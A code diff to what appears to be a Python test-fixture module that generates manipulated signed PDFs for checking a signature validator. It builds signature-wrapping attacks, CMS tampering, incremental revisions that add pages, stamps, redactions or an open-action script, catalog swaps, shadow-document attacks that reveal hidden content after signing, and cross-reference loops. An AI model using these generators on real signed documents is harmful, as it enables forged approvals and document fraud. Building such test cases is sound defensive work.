@@ -10,7 +10,7 @@ import re
 from collections.abc import Callable
 from io import BytesIO
 
-from asn1crypto import cms
+from asn1crypto import cms, core
 from pyhanko.pdf_utils import generic
 from pyhanko.pdf_utils.generic import pdf_name
 from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
@@ -67,20 +67,18 @@ def appended(
     if table:
         data += b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % item for item in sorted(offsets.items()))
     if trailer:
-        data += b"trailer\n<< /Size 60 /Root %s /Prev %d %s >>\n" % (root, previous, extra)
+        size = max([*offsets, *(int(item) - 1 for item in re.findall(rb"/Size (\d+)", data))]) + 1
+        data += b"trailer\n<< /Size %d /Root %s /Prev %d %s >>\n" % (size, root, previous, extra)
     if table:
         data += b"startxref\n%d\n" % start
     return data + (b"%%EOF\n" if mark else b"")
 
 
-def offset_of(data: bytes, marker: bytes) -> int:
-    """Offset of the object that ``marker`` begins."""
-    return data.index(marker)
-
-
 def signature_object(data: bytes) -> tuple[int, bytes]:
     """Number and body of the last signature's dictionary."""
-    found = list(re.finditer(rb"(\d+) 0 obj\s*(<<(?:(?!endobj).)*?/ByteRange.*?)\s*endobj", data, re.DOTALL))[-1]
+    found = list(re.finditer(rb"(\d+) 0 obj\s*(<<(?:(?!endobj).)*?/ByteRange.*?)\s*endobj", data, re.DOTALL))[
+        -1
+    ]
     return int(found[1]), found[2]
 
 
@@ -153,36 +151,39 @@ ISA: dict[str, Attack] = {
 }
 
 
-def _wrapped(*, second: bytes, padding: int = 0, inside: bool = False) -> Attack:
-    """The signed rest moved back; in its place come a ByteRange that finds it and objects that nobody signed."""
+def _wrapped(*, before: bytes = b"", inside: bool = False, padding: int = 0) -> Attack:
+    """The signed rest moved back, and in its old place a cross-reference that leads to objects which nobody signed.
+
+    The signed end of the file says where the table begins, so that the attacker writes his own there.
+    """
 
     def attack(data: bytes) -> bytes:
         start, end = gap(data)
-        value, rest = data[start:end], data[end:]
-        evil = b"4 0 obj\n%s\nendobj\n" % EVIL_PAGE
-        if inside:
-            value = value[:-1]
-        for _ in range(3):  # the number of digits changes where the rest comes to lie
-            place = start + len(value) + len(second % 0) + 12 + padding + len(evil)
-            middle = (second % place).ljust(len(second % 0) + 12) + b" " * padding + evil
-        body = data[:start] + value + middle + rest
-        shown = re.sub(
-            rb"(/ByteRange ?\[0 %d )%d( %d)" % (start, end, len(rest)),
-            lambda match: match[1] + b"%d" % (start + len(value) + len(middle)) + match[2],
-            body,
-        )
-        return shown
+        rest = data[end:]
+        table_at = int(re.findall(rb"startxref\s+(\d+)", rest)[-1])
+        place = table_at + 900 + padding
+        head = data[:start] + data[start : end - 1 if inside else end]
+        head += (before % place) if before else b""
+        evil = (head + b"4 0 obj\n%s\nendobj\n" % EVIL_PAGE).ljust(table_at)
+        assert len(evil) == table_at, "no room before the table"
+        offsets = {
+            int(item[1]): item.start() for item in re.finditer(rb"(\d+) 0 obj", evil.ljust(place) + rest)
+        }
+        table = b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % item for item in sorted(offsets.items()))
+        table += b"trailer\n<< /Size 60 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % table_at
+        return (evil + table).ljust(place) + rest
 
     return attack
 
 
 SWA: dict[str, Attack] = {
-    "objects in the gap": _wrapped(second=b" %d "),
-    "a second ByteRange in the gap": _wrapped(second=b" /ByteRange [0 1 %d 1] "),
-    "objects inside the brackets": _wrapped(second=b" %d ", inside=True),
-    "padding before the objects": _wrapped(second=b" %d ", padding=2_000),
-    "the dictionary closed in the gap": _wrapped(second=b" >>\nendobj\n%% %d \n"),
+    "objects in the gap": _wrapped(),
+    "a second ByteRange in the gap": _wrapped(before=b" /ByteRange [0 1 %08d 1] "),
+    "objects inside the brackets": _wrapped(inside=True),
+    "padding behind the objects": _wrapped(padding=2_000),
+    "the dictionary closed in the gap": _wrapped(before=b" >>\nendobj\n%% %08d \n"),
 }
+"""The last signed piece of ``startxref`` still stands at the end: what the reader finds first."""
 
 
 def _two_signers(info: cms.ContentInfo) -> None:
@@ -196,8 +197,8 @@ def _two_signers(info: cms.ContentInfo) -> None:
 
 def _enclosed(content: bytes) -> Callable[[cms.ContentInfo], None]:
     def change(info: cms.ContentInfo) -> None:
-        info["content"]["encap_content_info"] = cms.EncapsulatedContentInfo(
-            {"content_type": "data", "content": content}
+        info["content"]["encap_content_info"] = cms.ContentInfo(
+            {"content_type": "data", "content": core.OctetString(content)}
         )
 
     return change
@@ -223,7 +224,7 @@ def _new_page(writer: IncrementalPdfFileWriter) -> None:
     page = generic.DictionaryObject(
         {
             pdf_name("/Type"): pdf_name("/Page"),
-            pdf_name("/Parent"): pages.container_ref if False else writer.root.raw_get("/Pages"),
+            pdf_name("/Parent"): writer.root.raw_get("/Pages"),
             pdf_name("/MediaBox"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 595, 842)]),
         }
     )
@@ -239,7 +240,9 @@ def _no_page(writer: IncrementalPdfFileWriter) -> None:
     writer.update_container(pages)
 
 
-def _annotation(subtype: str, rectangle: tuple[int, int, int, int]) -> Callable[[IncrementalPdfFileWriter], None]:
+def _annotation(
+    subtype: str, rectangle: tuple[int, int, int, int]
+) -> Callable[[IncrementalPdfFileWriter], None]:
     def change(writer: IncrementalPdfFileWriter) -> None:
         page = writer.root["/Pages"]["/Kids"][0]
         appearance = writer.add_object(generic.StreamObject(stream_data=b"1 g 0 0 500 50 re f"))
@@ -283,11 +286,9 @@ REVISIONS: dict[str, Attack] = {
     "stamp over the text": lambda data: updated(data, _annotation("/Stamp", (60, 700, 400, 740))),
     "redaction": lambda data: updated(data, _annotation("/Redact", (60, 700, 400, 740))),
     "script when opened": lambda data: updated(data, _catalog("/OpenAction", _SCRIPT)),
-    "other catalog": lambda data: appended(
-        data, {50: b"<< /Type /Catalog /Pages 2 0 R >>"}, root=b"50 0 R"
-    ),
-    "reason replaced": override_signature(lambda body: body.replace(b"<<", b"<< /Reason (Da huy)", 1)),
-    "reason replaced in place": in_place(b"/Type /Sig", b"/Name /Sig"),
+    "other catalog": lambda data: appended(data, {50: b"<< /Type /Catalog /Pages 2 0 R >>"}, root=b"50 0 R"),
+    "reason replaced": override_signature(lambda body: body.replace(b"(Phe duyet)", b"(Da huy bo)")),
+    "reason replaced in place": in_place(b"(Phe duyet)", b"(Da huy bo)"),
 }
 
 ANOMALIES: dict[str, Attack] = {
@@ -300,9 +301,6 @@ ANOMALIES: dict[str, Attack] = {
 }
 
 LOOPS: dict[str, Attack] = {
-    "Prev leads back": lambda data: re.sub(
-        rb"/Prev \d+", lambda match: b"/Prev %d" % len(data), appended(data, {50: b"null"})[::1]
-    ),
     "Prev leads to itself": lambda data: appended(data, {50: b"null"}).replace(
         b"/Prev %d  >>" % int(re.findall(rb"startxref\s+(\d+)", data)[-1]),
         b"/Prev %d  >>" % (len(data) + len(b"50 0 obj\nnull\nendobj\n")),
@@ -318,3 +316,60 @@ LOOPS: dict[str, Attack] = {
         data, {4: b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream"}
     ),
 }  # fmt: skip
+
+
+def shadow_pdf(plain: bytes) -> bytes:
+    """A document prepared by who will have it signed: under the numbers of content and pages lie others, unseen.
+
+    Args:
+        plain: of ``pki_factory.minimal_pdf``; its own content and pages become what is hidden.
+    """
+    shown = {
+        2: b"<< /Type /Pages /Kids [22 0 R] /Count 1 >>",
+        4: b"<< /Length 31 >>\nstream\nBT /F1 12 Tf (160-KL/TU) Tj ET  \nendstream",
+        21: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        22: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
+        b" /Resources << /Font << /F1 5 0 R >> >> >>",
+    }
+    return appended(plain, shown)
+
+
+SHADOW: dict[str, Attack] = {
+    "hidden content led to by the table": lambda data: appended(data, {}, point={4: data.index(b"4 0 obj")}),
+    "hidden pages shown by the catalog": lambda data: appended(
+        data, {int(re.findall(rb"/Root (\d+)", data)[-1]): b"<< /Type /Catalog /Pages 21 0 R >>"}
+    ),
+    "hidden pages under the old number": lambda data: appended(data, {}, point={2: data.index(b"2 0 obj")}),
+    "overlay taken away": lambda data: appended(data, {4: b"<< /Length 0 >>\nstream\n\nendstream"}),
+    "content set free": lambda data: _freed(data, 4),
+    "font exchanged": lambda data: appended(
+        data, {5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Symbol /Encoding << /Differences [49 /nine] >> >>"}
+    ),
+    "font set free": lambda data: _freed(data, 5),
+}  # fmt: skip
+
+
+def _freed(data: bytes, number: int) -> bytes:
+    """An update that declares an object free: what it showed is gone."""
+    previous = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
+    root, size = re.findall(rb"/Root (\d+ \d+ R)", data)[-1], max(map(int, re.findall(rb"/Size (\d+)", data)))
+    table = b"xref\n%d 1\n0000000000 00001 f \n" % number
+    trailer = b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n" % (
+        size,
+        root,
+        previous,
+        len(data),
+    )
+    return data + table + trailer + b"%%EOF\n"
+
+
+FAMILIES: dict[str, dict[str, Attack]] = {
+    "USF": USF,
+    "ISA": ISA,
+    "SWA": SWA,
+    "CMS": CMS,
+    "revision": REVISIONS,
+    "ByteRange": ANOMALIES,
+    "loop": LOOPS,
+    "shadow": SHADOW,
+}
